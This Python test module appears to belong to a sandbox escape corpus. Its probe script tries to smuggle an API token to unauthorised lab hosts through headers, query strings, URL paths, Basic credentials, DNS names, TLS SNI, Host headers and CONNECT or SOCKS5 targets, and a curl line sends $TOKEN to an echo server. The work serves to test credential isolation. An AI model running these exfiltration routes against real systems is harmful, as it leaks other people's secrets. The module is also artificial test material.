"""Rows 87-89 of the escape corpus: the credential tripwire.

The program holds an API token meant for one host, api.example (with porta:
`--secret TOKEN@api.example`), and tries to get it somewhere else: another
allowed host over HTTPS that the sandbox terminates (87), a name (a DNS
question, a CONNECT or SOCKS target, a TLS SNI, a Host header or a proxy
request's URL: 88), another allowed host over plain HTTP, sent straight,
through the HTTP proxy, or inside a CONNECT or SOCKS5 tunnel (89).

What counts.  The escape is the token arriving at a server it is not meant
for: the real value, or the value the program holds, found (case-blind,
percent-decoded, inside Basic credentials) in what the lab's server there
recorded (request target, header values, SNI) or in a name the lab's
resolver was asked.  What the program holds depends on the sandbox:
  - with no stand-in feature (the control, a sandbox that passes the
    environment as it is) it holds the real value, so an arrival is the
    secret itself gone;
  - with one (porta's --secret placeholder, srt's masked credentials) it
    holds a stand-in that is useless anywhere but through that sandbox's
    proxy to api.example: an arrival gives the other server nothing it can
    use.  That the stand-in is still refused elsewhere is defence in depth
    and a tripwire (a program trying it is caught, audited, and its request
    never leaves), which is what these rows hold porta to.
The detail of every escape says which of the two arrived.

The proof that a route is open.  Every check sends the same request twice by
the same route: first with an allowed value (a run-unique word that is no
secret) where the token goes, then with the token.  A check the sandbox held
whose allowed value did not arrive either shows nothing about the token: it
is n/a ("the route is closed as a whole": srt offers no route but its
proxy), never held.  And a sandbox run in which the program held no token
at all is broken (nothing was tried).

The environment of both runs (control and sandbox) carries TOKEN and
OTHER_TOKEN with their real values, and the lab's CA as SSL_CERT_FILE (which
porta reads to verify the upstream) and NODE_EXTRA_CA_CERTS (which
srt's Node proxy reads): a proxy that terminates TLS must trust the lab's
servers, or every terminated request would fail for a reason that is not
the token.  The probe itself never verifies a certificate (a hostile program
need not).

Not covered, by design: the token sent over HTTPS to an allowed host that
is NOT terminated (allowed by --allow-net only): porta splices those
connections untouched and cannot read inside them (it reads only the ones
it terminates), and the stand-in is useless there.  Bodies are not searched
by porta (by design) and are not sent here.

The lab, its helpers and the runner's vocabulary are rows_net's (one lab
per run); the servers and names below are added to it on first use.
"""

import base64
import binascii
import json
import urllib.parse

from corpus import *  # noqa: F401,F403  (the runner's vocabulary)
from rows_net import NET, NETPROBE, PY, NetCheck, run_check, with_lab

API, OTHER, WILD, PLAIN = "203.0.113.91", "203.0.113.92", "203.0.113.93", "203.0.113.94"
RECORDS = {"api.example": API, "other.example": OTHER, "wild.example": WILD,
           "*.wild.example": WILD, "plain.example": PLAIN}
VAR, OTHER_VAR = "TOKEN", "OTHER_TOKEN"

# The client.  argv: netprobe's source (its connect, proxy and TLS helpers),
# then the spec {"var", "allowed", "steps"}.  Each step runs twice, "{T}" (and
# "{B}", Basic credentials x-access-token:{T} in base64) filled first with the
# allowed value, then with the token the program holds.  "via": "proxy" takes
# the sandbox's announced proxy (HTTPS_PROXY, HTTP_PROXY, ALL_PROXY, with
# the credentials in its URL, as srt needs) and goes straight to the target
# when none is announced (the control); "direct" never uses a proxy; for a
# plain "http" step, "connect" and "socks" open a tunnel through HTTPS_PROXY
# (CONNECT) or ALL_PROXY (SOCKS5) and send the request inside it, straight
# to the target when that proxy is not announced.
PROBE = r'''
import base64, json, os, socket, sys
print("PROBE-STARTED", flush=True)
np = {"__name__": "netprobe"}
exec(compile(sys.argv[1], "netprobe", "exec"), np)
spec = json.loads(sys.argv[2])
token = os.environ.get(spec["var"], "")
if token:
    print("RESULT token held " + token, flush=True)

def announced(var):
    return bool(os.environ.get(var) or os.environ.get(var.lower()))

def fill(text, t):
    basic = base64.b64encode(("x-access-token:" + t).encode()).decode()
    return text.replace("{B}", basic).replace("{T}", t)

def head(step, t, absolute=False, auth=b""):
    target = fill(step.get("path", "/"), t)
    if absolute:
        target = "http://%s:%d%s" % (step["host"], step["port"], target)
    lines = ["GET %s HTTP/1.1" % target, "Host: %s" % step["host"]]
    lines += ["%s: %s" % (k, fill(v, t)) for k, v in step.get("headers", [])]
    return ("\r\n".join(lines) + "\r\n").encode("latin-1") + auth + b"Connection: close\r\n\r\n"

def tunnel(host, port):
    # CONNECT through HTTPS_PROXY; None when no proxy is announced
    if not announced("HTTPS_PROXY"):
        return None
    s = np["connect"](*np["proxy_addr"]("HTTPS_PROXY"))
    hp = ("%s:%d" % (host, port)).encode("latin-1")
    s.sendall(b"CONNECT " + hp + b" HTTP/1.1\r\nHost: " + hp + b"\r\n"
              + np["proxy_auth"]("HTTPS_PROXY") + b"\r\n")
    got = b""
    while b"\r\n\r\n" not in got:
        c = s.recv(1)
        if not c:
            break
        got += c
    if got.split(b" ")[1:2] != [b"200"]:
        raise OSError("CONNECT answered %r" % got.split(b"\r\n")[0])
    return s

def socks(host, port):
    if not announced("ALL_PROXY"):
        return None
    s = np["connect"](*np["proxy_addr"]("ALL_PROXY"))
    refused = np["socks_hello"](s)
    if refused:
        raise OSError("SOCKS: " + refused)
    name = host.encode("latin-1")
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + port.to_bytes(2, "big"))
    rep = s.recv(10)
    if len(rep) < 2 or rep[1] != 0:
        raise OSError("SOCKS reply %r" % rep[:2])
    return s

def https_get(s, sni, step, t):
    tls = np["tls_over"](s, sni, verify=False)
    tls.sendall(head(step, t))
    return np["recv_all"](tls).decode("latin-1").split("\r\n", 1)[0]

def run(step, t):
    op, port = step["op"], step.get("port", 443)
    if op == "https":
        s = (tunnel(step["host"], port) if step.get("via") == "proxy" else None) \
            or np["connect"](step.get("addr", step["host"]), port)
        return {"status": https_get(s, fill(step.get("sni", step["host"]), t), step, t)}
    if op == "http":
        step = dict(step, host=fill(step["host"], t))
        via = step.get("via")
        if via == "proxy" and announced("HTTP_PROXY"):
            s = np["connect"](*np["proxy_addr"]("HTTP_PROXY"))
            s.sendall(head(step, t, absolute=True, auth=np["proxy_auth"]("HTTP_PROXY")))
        elif via in ("connect", "socks"):
            # plain HTTP inside a tunnel the proxy opened to an allowed host
            s = (tunnel if via == "connect" else socks)(step["host"], port) \
                or np["connect"](step.get("addr", step["host"]), port)
            s.sendall(head(step, t))
        else:
            s = np["connect"](step.get("addr", step["host"]), port)
            s.sendall(head(step, t))
        return {"status": np["recv_all"](s).decode("latin-1").split("\r\n", 1)[0]}
    if op in ("connect", "socks"):
        name = fill(step["name"], t)
        s = (tunnel if op == "connect" else socks)(name, port) or np["connect"](name, port)
        return {"status": https_get(s, name, dict(step, host=name), t)}
    if op == "dns":
        server = "198.51.100.53"
        with open("/etc/resolv.conf") as f:
            for line in f:
                if line.split()[:1] == ["nameserver"]:
                    server = line.split()[1]
                    break
        q = np["dns_query"](fill(step["name"], t), "A")
        u = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(3)
        u.sendto(q, (server, 53))
        return {"rcode": u.recv(65535)[3] & 0xF}
    if op == "resolve":
        return {"addrs": sorted({i[4][0] for i in socket.getaddrinfo(fill(step["name"], t), port)})}
    raise ValueError("no op " + op)

results = []
for step in spec["steps"]:
    for label, t in (("allowed", spec["allowed"]), ("token", token)):
        if not t:
            continue
        try:
            res = dict(run(step, t), ok=True)
        except Exception as e:  # every failure is a result
            res = {"ok": False, "error": np["err"](e)}
        res.update(op=step["op"], value=label)
        results.append(res)
print(json.dumps({"pid": os.getpid(), "results": results}), flush=True)
'''


def setup(lab):
    """The servers and names of these rows, added to the run's lab once."""
    S = NET.servers
    if "secret api" not in S:
        S["secret api"] = lab.server_tls(API, 443, names=["api.example"], label="api.example")
        S["secret other"] = lab.server_tls(OTHER, 443, names=["other.example"], label="other.example")
        S["secret wild"] = lab.server_tls(WILD, 443, names=["*.wild.example", "wild.example"],
                                          label="*.wild.example")
        S["secret wild http"] = lab.server_http(WILD, 80, label="*.wild.example:80")
        S["secret plain"] = lab.server_http(PLAIN, 80, label="plain.example")
        lab.dns(RECORDS, ttl=30)


def values(ctx):
    """The real values of TOKEN and OTHER_TOKEN for this run: token-shaped
    (a GitHub-style "ghp_" tag, so a stand-in keeps a shape worth sending),
    a valid DNS label, unique to the run."""
    return "ghp_Esc" + ctx.nonce[:29], "sk-other" + ctx.nonce[3:31]


def allowed_value(ctx, mode):
    """The value sent by the same route first: the token's shape (tag, case,
    length, a valid DNS label) but no secret, so that a sandbox refusing the
    token for its shape alone (an underscore in a name, its length) lets
    this one through no more than the token: the route shows closed."""
    return f"ghp_Ok{mode[:3].capitalize()}" + ctx.nonce[::-1][:27]


def carriers(text):
    """The spellings of a recorded field searched for a value: as received,
    percent-decoded, and a Basic credential's decoded user:password."""
    out = [text, urllib.parse.unquote(text)]
    scheme, _, cred = text.partition(" ")
    if scheme.lower() == "basic":
        try:
            out.append(base64.b64decode(cred.strip(), validate=True).decode("latin-1"))
        except (binascii.Error, ValueError):
            pass
    return [t.lower() for t in out]


def found(lab, places, wanted):
    """Where any of wanted (strings) arrived: [(value, 'server: field')].
    places: NET.servers keys, and "dns" for the lab resolver's log."""
    wanted = list(dict.fromkeys(w for w in wanted if w))
    hits = []

    def look(value, where):
        for w in wanted:
            if any(w.lower() in t for t in carriers(value or "")):
                hits.append((w, where))
    for place in places:
        if place == "dns":
            for q in lab.queries():
                look(q["name"], f"resolver: question {q['type']}")
            continue
        srv = NET.servers[place]
        for r in lab.requests(srv):
            look(r.get("sni"), f"{srv.label}: SNI")
            look(r.get("path"), f"{srv.label}: request target")
            for k, v in r.get("headers", ()):
                look(v, f"{srv.label}: header {k}")
    return hits


def secret_check(ctx, lab, name, policy, steps, places):
    """One check: the steps with the allowed value, then the token, as the
    control and under the sandbox; judged from the lab (see the module
    docstring for what counts, n/a and broken)."""
    real, other_real = values(ctx)
    env = ctx.env(**{VAR: real, OTHER_VAR: other_real, "SSL_CERT_FILE": lab.ca_file,
                     "NODE_EXTRA_CA_CERTS": lab.ca_file})
    seen = {}

    def argv(mode):
        spec = {"var": VAR, "allowed": allowed_value(ctx, mode), "steps": steps}
        return [PY, "-c", PROBE, NETPROBE, json.dumps(spec)]

    def evidence(lab_, mode, run):
        held = run.results().get("token", ("", ""))[1].strip()
        if len(held) < 16:    # too short to tell apart from other bytes
            held = ""
        hits = found(lab, places, [real, held])
        route_open = bool(found(lab, places, [allowed_value(ctx, mode)]))
        seen[mode] = (held, route_open)
        if not hits:
            return False, ("nothing of the token arrived" +
                           ("; the allowed value did" if route_open else
                            "; the allowed value neither"))
        what = ("the real value" if any(v == real for v, _ in hits) else
                f"the stand-in the program held ({held[:8]}..., not the real value)")
        wheres = list(dict.fromkeys(where for _, where in hits))
        more = f" and {len(wheres) - 3} more" if len(wheres) > 3 else ""
        return True, f"{what} arrived at " + "; ".join(wheres[:3]) + more
    check = run_check(ctx, lab, NetCheck(name, policy, argv=argv, evidence=evidence, env=env))
    if check.verdict == HELD and "sandbox" in seen:
        held, route_open = seen["sandbox"]
        if not held:
            return Check(name, BROKEN, check.control,
                         f"the program was never given ${VAR} (or a value under 16 bytes, "
                         "too short to search for): nothing was tried")
        if not route_open:
            return Check(name, NA, check.control,
                         "the allowed value sent by the same route did not arrive either: "
                         "the route is closed as a whole, so this shows nothing about the token")
    return check


def run_all(ctx, specs, places):
    def build(lab):
        setup(lab)
        return [secret_check(ctx, lab, n, pol, steps, places) for n, pol, steps in specs]
    return with_lab(ctx, [s[0] for s in specs], build)


SECRET = f"{VAR}@api.example"


@row(87, "a --secret's token sent to another terminated HTTPS host (header, query, Basic)",
     f"--secret {SECRET} --secret {OTHER_VAR}@other.example | "
     f"--secret {SECRET} --allow-http 'GET https://other.example/*'")
def row87(ctx):
    both = Policy(secrets=[SECRET, f"{OTHER_VAR}@other.example"])
    rule = Policy(secrets=[SECRET], allow_http=["GET https://other.example/*"])
    ways = [("in a header (X-Token)", {"headers": [("X-Token", "{T}")]}),
            ("in a query string", {"path": "/search?access_token={T}"}),
            ("in the request path", {"path": "/{T}/x"}),
            ("in an Authorization: Basic header", {"headers": [("Authorization", "Basic {B}")]})]
    specs = []
    for via, how in (("direct", "transparent"), ("proxy", "through the HTTP proxy (CONNECT)")):
        for what, extra in ways:
            step = dict({"op": "https", "host": "other.example", "via": via}, **extra)
            specs.append((f"{what}, {how}", both, [step]))
    specs.append(("in a header, other.example terminated by --allow-http (no secret of its own)",
                  rule, [{"op": "https", "host": "other.example",
                          "headers": [("X-Token", "{T}")]}]))
    return run_all(ctx, specs, ["secret other"])


@row(88, "a --secret's token in a name: DNS question, CONNECT and SOCKS targets, TLS SNI, Host",
     f"--secret {SECRET} --allow-net *.wild.example:443 --allow-net *.wild.example:80")
def row88(ctx):
    pol = Policy(secrets=[SECRET], allow_net=["*.wild.example:443", "*.wild.example:80"])
    name = "{T}.wild.example"
    specs = [("DNS question <token>.wild.example (UDP, to the resolver)",
              [{"op": "dns", "name": name}]),
             ("getaddrinfo(<token>.wild.example)", [{"op": "resolve", "name": name}]),
             ("HTTP proxy: CONNECT <token>.wild.example:443", [{"op": "connect", "name": name}]),
             ("SOCKS5: <token>.wild.example:443", [{"op": "socks", "name": name}]),
             # transparent only: a ClientHello naming another host than
             # the CONNECT is refused whatever it names (row 31)
             ("TLS to x.wild.example's address with SNI <token>.wild.example",
              [{"op": "https", "host": "x.wild.example", "sni": name}]),
             ("plain HTTP to x.wild.example's address with Host <token>.wild.example",
              [{"op": "http", "addr": "x.wild.example", "host": name, "port": 80}]),
             ("HTTP proxy: GET http://<token>.wild.example/",
              [{"op": "http", "host": name, "port": 80, "via": "proxy"}])]
    return run_all(ctx, [(n, pol, steps) for n, steps in specs],
                   ["dns", "secret wild", "secret wild http"])


@row(89, "a --secret's token sent to another allowed host over plain HTTP",
     f"--secret {SECRET} --allow-net plain.example:80")
def row89(ctx):
    pol = Policy(secrets=[SECRET], allow_net=["plain.example:80"])
    ways = [("in the request path", {"path": "/{T}/x"}),
            ("in a query string", {"path": "/search?access_token={T}"}),
            ("in a header (X-Token)", {"headers": [("X-Token", "{T}")]}),
            ("in an Authorization: Basic header", {"headers": [("Authorization", "Basic {B}")]})]
    specs = []
    for via, how in (("direct", "transparent"), ("proxy", "through the HTTP proxy"),
                     ("connect", "inside a CONNECT tunnel"), ("socks", "inside a SOCKS5 tunnel")):
        for what, extra in ways:
            step = dict({"op": "http", "host": "plain.example", "port": 80, "via": via}, **extra)
            specs.append((f"{what}, {how}", pol, [step]))
    return run_all(ctx, specs, ["secret plain"])


# --------------------------------------------------------------------------
# Row 102: the real value handed back to the program in a response head

ECHO = "203.0.113.97"


@row(102, "a --secret's real value handed back by the server: Basic's base64, percent-encoded",
     f"--secret {VAR}@echo.example (the server echoes Authorization as X-Echo)")
def row102(ctx):
    name = "curl -u user:$TOKEN; the server echoes Authorization in a response header"

    def build(lab):
        S = NET.servers
        if "secret echo" not in S:
            S["secret echo"] = lab.server_tls(ECHO, 443, names=["echo.example"],
                                              label="echo.example", echo_header="Authorization")
            lab.dns({"echo.example": ECHO}, ttl=30)
        real, _ = values(ctx)
        env = ctx.env(**{VAR: real, "SSL_CERT_FILE": lab.ca_file,
                         "NODE_EXTRA_CA_CERTS": lab.ca_file})
        script = ('echo PROBE-STARTED; curl -sS -k -D - -o /dev/null -u "user:$' + VAR +
                  '" https://echo.example/')

        def evidence(lab_, mode, run):
            heads = run.stdout
            found = []
            for line in heads.splitlines():
                key, _, value = line.partition(":")
                for text in carriers(value.strip()):
                    if real.lower() in text:
                        found.append(f"{key.strip()}: {value.strip()[:40]}")
                        break
            if found:
                return True, "the real value came back to the program in " + "; ".join(found)
            if "x-echo" not in heads.lower():
                return False, "no X-Echo header came back (nothing was echoed)"
            return False, "X-Echo came back with the placeholder only"
        pol = Policy(secrets=[f"{VAR}@echo.example"])
        return [run_check(ctx, lab, NetCheck(name, pol, argv=["/bin/sh", "-c", script],
                                             evidence=evidence, env=env))]
    return with_lab(ctx, [name], build)
